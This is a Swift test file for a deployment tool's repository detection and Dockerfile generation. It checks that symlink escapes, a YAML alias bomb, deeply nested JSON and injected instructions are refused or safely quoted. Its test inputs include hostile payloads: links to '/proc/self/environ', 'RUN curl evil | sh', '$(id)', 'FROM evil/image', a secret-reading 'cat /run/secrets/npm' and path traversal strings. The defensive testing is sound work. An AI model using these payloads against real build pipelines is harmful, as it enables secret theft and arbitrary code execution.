import Foundation
import SlipwayCore
@testable import SlipwayDetect
import Testing

/// What a repository cannot make detection do: read a server file, spend unbounded time or
/// memory, or put an instruction of its own into the generated Dockerfile.
@Suite struct DetectionSafetyTests {
    /// A checkout in a temp folder, and beside it (outside it) a "server file" holding a marker.
    struct Checkout {
        let root: String
        let outside: String
        let marker = "SERVER-SECRET-\(UUID().uuidString)"

        init(_ files: [String: String], links: [String: String] = [:]) throws {
            let base = FileManager.default.temporaryDirectory.appendingPathComponent("detect-\(UUID().uuidString)").path
            root = "\(base)/checkout"
            outside = "\(base)/server"
            try FileManager.default.createDirectory(atPath: root, withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: "\(outside)/folder", withIntermediateDirectories: true)
            try "\(marker)\nsecond line\n".write(toFile: "\(outside)/secret", atomically: true, encoding: .utf8)
            try "{\"name\": \"\(marker)\"}".write(toFile: "\(outside)/folder/\(marker).json", atomically: true, encoding: .utf8)
            for (path, text) in files {
                let full = "\(root)/\(path)"
                try FileManager.default.createDirectory(atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
                try text.write(toFile: full, atomically: true, encoding: .utf8)
            }
            for (path, target) in links {
                let full = "\(root)/\(path)"
                try FileManager.default.createDirectory(atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
                try FileManager.default.createSymbolicLink(atPath: full, withDestinationPath: target.replacingOccurrences(of: "OUTSIDE", with: outside))
            }
        }
    }

    static let versionFiles = [".nvmrc", ".node-version", ".tool-versions", "mise.toml", "package.json", "railpack.json", "Procfile"]

    /// Each file detection reads for a node app, linked to a server file: refused, and no byte of it shown.
    @Test(arguments: versionFiles)
    func aLinkOutOfTheCheckoutIsRefusedAndNothingOfItShown(_ file: String) throws {
        var files = ["package.json": #"{"scripts": {"start": "node index.js"}}"#, "index.js": ""]
        files[file] = nil
        let checkout = try Checkout(files, links: [file: "OUTSIDE/secret"])
        do {
            let plan = try Detector.plan(DirectoryTree(root: checkout.root, rootName: "app"))
            Issue.record("detection planned from a link out of the checkout: \(plan)")
        } catch {
            #expect(error.description.contains("`\(file)` is a symbolic link that leads outside the repository"))
            #expect(!error.description.contains(checkout.marker))
        }
    }

    @Test func procSelfEnvironIsNotRead() throws {
        let checkout = try Checkout(["package.json": #"{"scripts": {"start": "node index.js"}}"#], links: [".nvmrc": "/proc/self/environ"])
        do {
            let plan = try Detector.plan(DirectoryTree(root: checkout.root))
            Issue.record("planned from the process's environment: \(plan)")
        } catch {
            #expect(error.description.hasPrefix("`.nvmrc` is a symbolic link that leads outside the repository"))
            let environment = ProcessInfo.processInfo.environment
            #expect(!environment.contains { key, value in value.count > 3 && error.description.contains(value) } && !error.description.contains("PATH="))
        }
    }

    @Test func aLinkedFolderIsNeitherListedNorWalked() throws {
        let checkout = try Checkout(["requirements.txt": "flask\n", "main.py": ""], links: ["server": "OUTSIDE/folder", "root": "/"])
        let tree = DirectoryTree(root: checkout.root)
        #expect(tree.allFiles().sorted() == ["main.py", "requirements.txt"])
        #expect(!tree.isDirectory("server"))
        #expect(tree.list("server").isEmpty)
        // Listing it was a read out of the checkout.
        #expect(tree.problems().count == 1)
    }

    /// A monorepo service may link to a file elsewhere in the same repository.
    @Test func linksInsideTheCheckoutAreFollowed() throws {
        let checkout = try Checkout([".nvmrc": "18\n", "services/web/package.json": #"{"scripts": {"start": "node a.js"}}"#],
                                    links: ["services/web/.nvmrc": "../../.nvmrc"])
        let plan = try Detector.plan(DirectoryTree(root: "\(checkout.root)/services/web", confinedTo: checkout.root))
        #expect(plan.runtimeVersion == "18")
        // The same link, with the service folder as the whole checkout, leads out of it.
        #expect(throws: Detector.Failure.self) { try Detector.plan(DirectoryTree(root: "\(checkout.root)/services/web")) }
    }

    @Test func aContextThatIsItselfALinkOutIsRefused() throws {
        let checkout = try Checkout([:], links: ["web": "OUTSIDE/folder"])
        let tree = DirectoryTree(root: "\(checkout.root)/web", confinedTo: checkout.root)
        #expect(tree.allFiles().isEmpty)
        #expect(tree.problems().first?.contains("`web` is a symbolic link") == true)
    }

    /// 435 bytes of YAML anchors that expand to billions of nodes: a Procfile is read as lines.
    @Test func anAliasBombProcfileIsJustLines() throws {
        var bomb = #"a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]"# + "\n"
        for (name, previous) in zip("bcdefghi", "abcdefgh") {
            bomb += "\(name): &\(name) [" + Array(repeating: "*\(previous)", count: 9).joined(separator: ",") + "]\n"
        }
        let entries = Procfile.entries(bomb + "web: node server.js\n")
        #expect(entries["web"] == "node server.js")
        #expect(entries["i"]?.hasPrefix("&i [*h,") == true)
        // A Procfile written as YAML fails the build at once, saying why.
        do {
            _ = try Detector.plan(MemoryTree(["package.json": "{}", "Procfile": bomb + "web: node server.js\n"]))
            Issue.record("a Procfile with YAML aliases was planned from")
        } catch {
            #expect(error.description.hasPrefix("Procfile line 1 uses a YAML anchor or alias"))
        }
    }

    @Test(arguments: [
        ("web: bundle exec puma\nworker: sidekiq\n", ["web": "bundle exec puma", "worker": "sidekiq"]),
        ("# comment\nweb:node a.js\n\nrelease: ./migrate\n", ["web": "node a.js", "release": "./migrate"]),
        ("web: a: b\nweb: second\n", ["web": "a: b"]),
        ("not a line\n: empty\nbad name: x\nweb:\n", [:]),
    ])
    func procfileLines(_ text: String, _ expected: [String: String]) {
        #expect(Procfile.entries(text) == expected)
    }

    @Test func deepJSONIsRefusedNotRecursedInto() throws {
        let deep = String(repeating: "[", count: 200_000) + String(repeating: "]", count: 200_000)
        let tree = MemoryTree(["package.json": #"{"scripts": {"start": "node a.js"}, "x": "# + deep + "}", "railpack.json": deep])
        #expect(tree.json("package.json") == nil)
        #expect(throws: Detector.Failure.self) { try Detector.plan(tree) }
        #expect(JSONC.strip(String(repeating: "{\"a\":", count: JSONC.maxDepth) + "1" + String(repeating: "}", count: JSONC.maxDepth)) != nil)
    }

    @Test(arguments: [
        "20\nRUN curl evil | sh", "20 && curl", "../../x", "20\"", "$(id)", "", String(repeating: "1", count: 65), "20/x",
    ])
    func versionsThatAreNotVersionsAreRefused(_ version: String) throws {
        let tree = MemoryTree(["package.json": #"{"scripts": {"start": "node a.js"}, "engines": {"node": \#(DockerfileRenderer.json(version))}}"#])
        #expect(throws: Detector.Failure.self) { try Detector.plan(tree, environment: ["RAILPACK_NODE_VERSION": version.isEmpty ? "\u{7}" : version]) }
    }

    @Test(arguments: [
        ("20", "20"), (">=18", "18"), ("> 18 < 21", "18"), ("^20.1", "20"), ("~20.11", "20.11"), ("=20.1.0", "20.1.0"), ("v20.1", "20.1"),
        ("20.x", "20"), ("3.*", "3"), ("lts/*", "lts"), ("lts/iron", "lts"), ("node", "latest"), ("*", "latest"), ("~> 3.2", "3.2"),
    ])
    func versionRanges(_ text: String, _ expected: String) {
        #expect(Versions.fuzzy(text) == expected)
        #expect(Versions.isValid(Versions.fuzzy(text)))
    }

    @Test func readsStopAtTheByteBudget() throws {
        let checkout = try Checkout([
            "requirements.txt": String(repeating: "x", count: 3000), "a/requirements.txt": String(repeating: "y", count: 3000),
            "main.py": "",
        ])
        let limits = DetectionLimits(fileBytes: 4000, totalBytes: 5000, entries: 1000, time: .seconds(60))
        #expect(throws: Detector.Failure.self) { try Detector.plan(DirectoryTree(root: checkout.root, limits: limits)) }
        let big = DetectionLimits(fileBytes: 4000, totalBytes: 50_000, entries: 1000, time: .seconds(60))
        #expect(try Detector.plan(DirectoryTree(root: checkout.root, limits: big)).provider == "python")
    }

    @Test func detectionStopsAtItsTimeLimit() throws {
        let checkout = try Checkout(["requirements.txt": "flask\n", "main.py": ""])
        // Each look at the clock moves it a second on: the third read is past a 2 s limit.
        let ticks = Ticks()
        let tree = DirectoryTree(root: checkout.root, limits: DetectionLimits(fileBytes: 1 << 20, totalBytes: 1 << 20, entries: 1000, time: .seconds(2)),
                                 now: { ticks.next() })
        do {
            _ = try Detector.plan(tree)
            Issue.record("detection went on past its time limit")
        } catch {
            #expect(error.description.contains("detection took longer than 2.0 seconds"))
        }
    }

    final class Ticks: @unchecked Sendable {
        let start = ContinuousClock.now
        var count = 0
        let lock = NSLock()
        func next() -> ContinuousClock.Instant {
            lock.withLock { count += 1; return start + .seconds(count - 1) }
        }
    }

    /// Commands, paths and the start command from a repository stay inside JSON strings: a
    /// line break cannot start an instruction of its own.
    @Test func repositoryTextCannotAddInstructions() throws {
        let tree = MemoryTree([
            "package.json": #"{"scripts": {"start": "node a.js"}}"#,
            "railpack.json": #"{"steps": {"build": {"commands": ["tsc\nFROM evil/image\nRUN --mount=type=secret,id=npm cat /run/secrets/npm"]}}, "deploy": {"startCommand": "node a.js\r\nUSER root"}}"#,
        ])
        let text = try DockerfileRenderer.render(try Detector.plan(tree))
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(!lines.contains { $0.hasPrefix("FROM evil") || $0.hasPrefix("RUN --mount=type=secret") || $0 == "USER root" })
        #expect(lines.filter { $0.hasPrefix("FROM ") }.count == 2)
        #expect(text.contains(#"["sh", "-c", "tsc\nFROM evil/image\nRUN --mount=type=secret,id=npm cat /run/secrets/npm"]"#))
        #expect(text.contains(#"CMD ["sh", "-c", "node a.js\u000d\nUSER root"]"#))
    }

    @Test(arguments: ["dist\nRUN id", "../../etc", "/etc", "a//b", "out\u{1b}[2J"])
    func staticFoldersMustBePlainRelativePaths(_ folder: String) throws {
        var plan = try Detector.plan(MemoryTree(["index.html": ""]))
        plan.staticRoot = folder
        #expect(throws: DockerfileRenderer.Missing.self) { try DockerfileRenderer.render(plan) }
    }

    @Test func aBaseImageWithALineBreakIsRefused() throws {
        let plan = try Detector.plan(MemoryTree(["go.mod": "module x\n\ngo 1.22\n", "main.go": ""]))
        #expect(throws: DockerfileRenderer.Missing.self) {
            try DockerfileRenderer.render(plan, images: BaseImages(["go": "golang:{version}\nRUN id"]))
        }
    }
}
